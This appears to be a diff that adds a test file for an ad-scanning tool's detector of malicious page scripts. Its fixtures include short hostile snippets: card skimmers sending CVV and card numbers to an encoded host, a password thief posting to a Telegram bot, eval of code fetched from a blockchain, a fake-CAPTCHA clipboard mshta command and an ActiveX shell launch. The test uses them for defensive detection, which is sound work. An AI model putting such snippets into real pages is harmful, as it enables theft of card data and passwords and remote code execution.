@@ -1,0 +1,116 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import type { CapturedBody } from '@adsweep/shared/capture/artifacts.ts';
+import type { Observation } from '@adsweep/shared/capture/observations/index.ts';
+import { matchingSignatures, SCRIPT_SIGNATURES } from '../../../src/analysis/detectors/deception/malicious-script.ts';
+import { detect } from '../../../src/analysis/detectors/detect.ts';
+import { type Evidence, NO_EVIDENCE } from '../../../src/analysis/evidence/evidence.ts';
+
+const PAGE = 'https://win.example/lp';
+type Page = { title?: string; text?: string; html?: string; url?: string };
+
+const documentOf = ({ title = '', text = '', html = '', url = PAGE }: Page) => ({
+  landing: 0,
+  frame: '',
+  url,
+  title,
+  text,
+  html,
+});
+function slugsOf(page: Page, observations: Observation[] = [], more: Partial<Evidence> = {}): string[] {
+  const { findings, failed } = detect({ ...NO_EVIDENCE, ...more, documents: [documentOf(page)], observations });
+  assert.deepEqual(failed, []);
+  return findings.map(({ tag_slug }) => tag_slug);
+}
+
+describe('§2.5.13 malicious_script', () => {
+  const SKIMMER = `const to = atob( 'aHR0cHM6Ly94' ); if (/checkout/.test(location)) fetch(to + cvv.value)`;
+  const bodyOf = (text: string, resource_type = 'script'): CapturedBody => {
+    return { url: 'https://cdn.example/x.js', resource_type, content_type: '', bytes: text.length, text };
+  };
+
+  it('is found in files and in documents, each with its URL', () => {
+    const { findings } = detect({
+      ...NO_EVIDENCE,
+      bodies: [bodyOf(SKIMMER)],
+      documents: [documentOf({ html: `<html><script async="">${SKIMMER}</script></html>` })],
+    });
+    assert.deepEqual(
+      findings.map(({ tag_slug, url }) => [tag_slug, url]),
+      [
+        ['malicious_script', 'https://cdn.example/x.js'],
+        ['malicious_script', PAGE],
+      ],
+    );
+    assert.match(findings[0]?.detail ?? '', /skimmer/);
+  });
+
+  it('is found in the excerpts of a large script, and of a document whose script removed itself', () => {
+    const ofScript = { ...bodyOf(''), text: null, excerpts: SKIMMER, bytes: 500_000 };
+    const ofDocument = { ...ofScript, resource_type: 'document', excerpts: `<script>${SKIMMER}</script>` };
+    assert.deepEqual(slugsOf({}, [], { bodies: [ofScript] }), ['malicious_script']);
+    assert.deepEqual(slugsOf({}, [], { bodies: [ofDocument] }), ['malicious_script']);
+    assert.deepEqual(slugsOf({}, [], { bodies: [{ ...ofDocument, excerpts: SKIMMER }] }), []);
+  });
+
+  it('is not found in displayed code, in carried content, or without one of its parts', () => {
+    const bodies = [bodyOf(SKIMMER.replace('checkout', 'elsewhere')), bodyOf(SKIMMER, 'document')];
+    for (const html of [
+      `<pre>${SKIMMER}</pre>`,
+      `<script type="application/json">${SKIMMER}</script>`,
+      `<script>self.__next_f.push("${SKIMMER}")</script>`,
+    ])
+      assert.deepEqual(slugsOf({ html }, [], { bodies }), [], html);
+  });
+});
+
+describe('§2.5.13 the signatures of malicious scripts', () => {
+  const codesOf = (text: string) => [...text].map((character) => character.charCodeAt(0)).join(',');
+  const [SCRIPT, ADDRESS] = [codesOf('script'), codesOf('https://x.example/a.js')];
+  /** By the name of its signature: a script that does it, and one that only looks so. */
+  const samples: [name: string, does: string, looksSo: string][] = [
+    [
+      'a skimmer of card numbers',
+      "const u = atob('aHR0cHM6Ly94'); if (/onepage/.test(path)) navigator.sendBeacon(u, cc_number.value)",
+      "const u = atob('aHR0cHM6Ly94'); fetch(u)",
+    ],
+    [
+      'a thief of passwords',
+      "fetch('https://api.telegram.org/bot1:a/sendMessage', { body: form.password.value })",
+      "fetch('https://api.telegram.org/bot1:a/sendMessage', { body: order.number })",
+    ],
+    [
+      'code that is fetched from a blockchain',
+      "rpc('https://bsc-testnet-rpc.publicnode.com', 'eth_call').then((x) => eval(atob(x)))",
+      "rpc('https://bsc-testnet-rpc.publicnode.com', 'eth_call').then(show)",
+    ],
+    [
+      'a command that is put into the clipboard to be run',
+      "box.value = 'mshta https://x.example/a # I am not a robot'; document.execCommand('copy')",
+      "box.value = 'powershell is a shell'; document.execCommand('copy')",
+    ],
+    [
+      'an address that is spelt by character codes',
+      `var e = document.createElement(String.fromCharCode(${SCRIPT})); e.src = String.fromCharCode(${ADDRESS})`,
+      `const API = String.fromCharCode(${ADDRESS}); const e = document.createElement('script'); e.src = API`,
+    ],
+    [
+      'a program that is started by ActiveX',
+      "new ActiveXObject('WScript.Shell').Run('cmd /c calc')",
+      "new ActiveXObject('Microsoft.XMLHTTP').open('GET', '/')",
+    ],
+  ];
+
+  it('each match their script, and none that only looks similar', () => {
+    const found = (script: string) => matchingSignatures(script).map(({ name }) => name);
+    for (const [name, does, looksSo] of samples) assert.deepEqual([found(does), found(looksSo)], [[name], []], name);
+  });
+
+  it('are all tested here, and have a source each', () => {
+    assert.deepEqual(
+      SCRIPT_SIGNATURES.map(({ name }) => name),
+      samples.map(([name]) => name),
+    );
+    for (const { source } of SCRIPT_SIGNATURES) assert.match(source, /[\w-]+\.[a-z]{2,}\//);
+  });
+});
